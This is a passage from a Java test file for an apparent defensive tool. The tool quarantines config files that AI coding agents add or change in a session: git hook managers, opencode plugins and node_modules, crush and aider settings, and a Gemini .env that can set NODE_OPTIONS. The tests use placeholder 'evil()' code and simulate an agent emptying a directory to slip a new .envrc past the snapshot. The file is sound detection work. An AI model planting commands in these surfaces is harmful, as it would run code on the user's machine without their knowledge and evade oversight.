            new Named(".lintstagedrc.json", ".lintstagedrc.json", SurfaceKind.HOOK_MANAGER, "lint-staged"),
            new Named("lint-staged.config.mjs", "lint-staged.config.mjs", SurfaceKind.HOOK_MANAGER, "lint-staged"),
            new Named(".huskyrc", ".huskyrc", SurfaceKind.HOOK_MANAGER, "husky 4"),
            new Named("husky.config.js", "husky.config.js", SurfaceKind.HOOK_MANAGER, "husky 4"),
            new Named("lefthook-local.yml", "lefthook-local.yml", SurfaceKind.HOOK_MANAGER, "lefthook"));

    private static final List<Named> HOME_SURFACES = List.of(
            new Named(".config/opencode/config.json", "config.json", SurfaceKind.HOME_AGENT_SETTINGS, "global config"),
            new Named(".config/opencode/config", "config", SurfaceKind.HOME_AGENT_SETTINGS, "legacy TOML"),
            new Named(".config/opencode/tools/t.ts", "tools", SurfaceKind.HOME_AGENT_SETTINGS, "custom tools"),
            new Named(".config/opencode/mode/m.md", "mode", SurfaceKind.HOME_AGENT_SETTINGS, "modes"),
            new Named(".config/opencode/package.json", "package.json", SurfaceKind.HOME_AGENT_SETTINGS, "bun install"),
            new Named(
                    ".config/opencode/node_modules/x/i.js", "node_modules", SurfaceKind.HOME_AGENT_SETTINGS, "import"),
            new Named(".config/opencode/bunfig.toml", "bunfig.toml", SurfaceKind.HOME_AGENT_SETTINGS, "registry"),
            new Named(".config/opencode/bun.lock", "bun.lock", SurfaceKind.HOME_AGENT_SETTINGS, "registry"),
            new Named(".config/crush/crushrc", "crushrc", SurfaceKind.HOME_AGENT_SETTINGS, "Bash"),
            new Named(".local/share/crush/crush.json", "crush.json", SurfaceKind.HOME_AGENT_SETTINGS, "MCP"),
            new Named(".gemini/.env", ".env", SurfaceKind.HOME_AGENT_SETTINGS, "NODE_OPTIONS"),
            new Named(".aider/oauth-keys.env", "oauth-keys.env", SurfaceKind.HOME_AGENT_SETTINGS, "AIDER_LINT_CMD"),
            new Named(".cache/opencode/bin/rg", "bin", SurfaceKind.HOME_AGENT_SETTINGS, "ripgrep"),
            new Named(
                    ".cache/opencode/node_modules/p/i.js", "node_modules", SurfaceKind.HOME_AGENT_SETTINGS, "plugins"),
            new Named(".cache/opencode/package.json", "package.json", SurfaceKind.HOME_AGENT_SETTINGS, "bun add"));

    /** Data, or what the tool reads no command from: not surfaces. */
    private static final List<String> NOT_SURFACES = List.of(
            "project/.nvmrc",
            "project/.node-version",
            "project/.lfsconfig",
            "project/.env",
            "project/.aider.chat.history.md",
            "project/.aider.model.settings.yml",
            "project/.crush/crush.db",
            "project/config.toml",
            "project/mise/tasks.md",
            "home/.cache/opencode/models.json",
            "home/.local/share/crush/crush.db",
            "home/.aider/caches/x",
            "home/.gemini/tmp/x",
            "home/.config/opencode/AGENTS.md");

    private Path under(String rootAndPath) {
        return rootAndPath.startsWith("home/")
                ? home.resolve(rootAndPath.substring("home/".length()))
                : project.resolve(rootAndPath.substring("project/".length()));
    }

    @Test
    void eachToolsSettingsAreQuarantinedWhenNewWithTheToolsReason() throws IOException {
        SurfaceReview.Snapshot before = snapshotAllHomes();
        for (Named n : PROJECT_SURFACES) {
            write(project.resolve(n.write()), "x\n");
        }
        for (Named n : HOME_SURFACES) {
            write(home.resolve(n.write()), "x\n");
        }
        for (String data : NOT_SURFACES) {
            write(under(data), "x\n");
        }

        List<Finding> findings = after(before);

        Set<String> expected = new TreeSet<>();
        for (Named n : PROJECT_SURFACES) {
            expected.add("project " + n.reported() + " " + n.kind().code() + " new");
        }
        for (Named n : HOME_SURFACES) {
            Path agentDir = SurfaceReview.AGENT_HOME_DIRS.stream()
                    .filter(Path.of(n.write())::startsWith)
                    .findFirst()
                    .orElseThrow();
            expected.add(
                    "home/" + agentDir + " " + n.reported() + " " + n.kind().code() + " new");
        }
        assertEquals(expected, summary(findings));
        for (Named n : PROJECT_SURFACES) {
            Finding f = findings.stream()
                    .filter(x -> x.root().kind().equals("project") && x.path().equals(Path.of(n.reported())))
                    .findFirst()
                    .orElseThrow();
            assertTrue(f.reason().contains(n.why()), n + ": " + f.reason());
            assertTrue(f.describe().contains("(" + f.reason() + ")"), f.describe());
        }
        for (Named n : HOME_SURFACES) {
            Finding f = findings.stream()
                    .filter(x ->
                            home.resolve(n.write()).startsWith(x.root().dir().resolve(x.path())))
                    .findFirst()
                    .orElseThrow();
            assertTrue(f.reason().contains(n.why()), n + ": " + f.reason());
        }
        for (String data : NOT_SURFACES) {
            assertTrue(Files.exists(under(data)), data);
        }
    }

    @Test
    void eachToolsSettingsThatDidNotChangeAreNoFinding() throws IOException {
        for (Named n : PROJECT_SURFACES) {
            write(project.resolve(n.write()), "x\n");
        }
        for (Named n : HOME_SURFACES) {
            write(home.resolve(n.write()), "x\n");
        }
        SurfaceReview.Snapshot before = snapshotAllHomes();
        assertEquals(List.of(), before.incomplete());
        assertEquals(List.of(), after(before));
    }

    @Test
    void anOpencodePluginPackageNewOrChangedIsQuarantinedAndTheRestStays() throws IOException {
        Path modules = home.resolve(".cache/opencode/node_modules");
        write(modules.resolve("opencode-a/index.js"), "a()");
        write(modules.resolve("opencode-a/package.json"), "{}");
        write(modules.resolve("@scope/b/index.js"), "b()");
        write(home.resolve(".cache/opencode/models.json"), "{}");
        SurfaceReview.Snapshot before = snapshotAllHomes();

        write(modules.resolve("opencode-c/index.js"), "evil()");
        write(modules.resolve("@scope/d/index.js"), "evil()");
        write(modules.resolve("opencode-a/index.js"), "evil()");
        write(home.resolve(".cache/opencode/models.json"), "{\"new\": 1}");

        assertEquals(
                Set.of(
                        "home/.cache/opencode node_modules/@scope/d home-agent-settings new",
                        "home/.cache/opencode node_modules/opencode-a/index.js home-agent-settings changed",
                        "home/.cache/opencode node_modules/opencode-c home-agent-settings new"),
                summary(after(before)));
        assertTrue(Files.exists(modules.resolve("@scope/b/index.js")));
        assertTrue(Files.exists(modules.resolve("opencode-a/package.json")));
    }

    @Test
    void nothingIsJudgedNewInADirectoryTheSnapshotDidNotWalkToTheEnd() throws IOException {
        for (int i = 0; i < 100; i++) {
            write(project.resolve("x/a/f" + i), "x");
        }
        write(project.resolve("x/b/.envrc"), "the user's\n");
        SurfaceReview small =
                new SurfaceReview(new SurfaceReview.Limits(64, 60, 1 << 20, Duration.ofSeconds(10)), CLOCK);
        SurfaceReview.Snapshot before = small.snapshot(project, home, List.of(project));
        assertEquals(1, before.incomplete().size(), before.incomplete().toString());
        assertTrue(
                before.incomplete().get(0).contains("at " + project.resolve("x/a")),
                before.incomplete().toString());

        // The agent empties x/a: now the review gets to x/b, which the snapshot never reached.
        deleteTree(project.resolve("x/a"));
        write(project.resolve(".envrc"), "new\n");
        List<Finding> findings = small.afterSession(before, quarantine, SESSION);

        // Past the snapshot's bound, the sweep by change time judges: the user's x/b/.envrc was there before.
        assertEquals(Set.of("project .envrc envrc new"), summary(findings));
        assertTrue(Files.exists(project.resolve("x/b/.envrc")));
    }

    @Test
    void theNewAgentDirectoriesAreRootsWhenWritable() {
        List<SurfaceReview.Root> roots = SurfaceReview.roots(
                project,
                home,
                List.of(project, home.resolve(".cache"), home.resolve(".local/share"), home.resolve(".aider")));
        assertEquals(
                List.of(
                        "project",
                        "home/.cache/opencode",
                        "home/.local/share/opencode",
                        "home/.local/share/crush",
                        "home/.aider"),
                roots.stream().map(SurfaceReview.Root::kind).toList());
    }
}
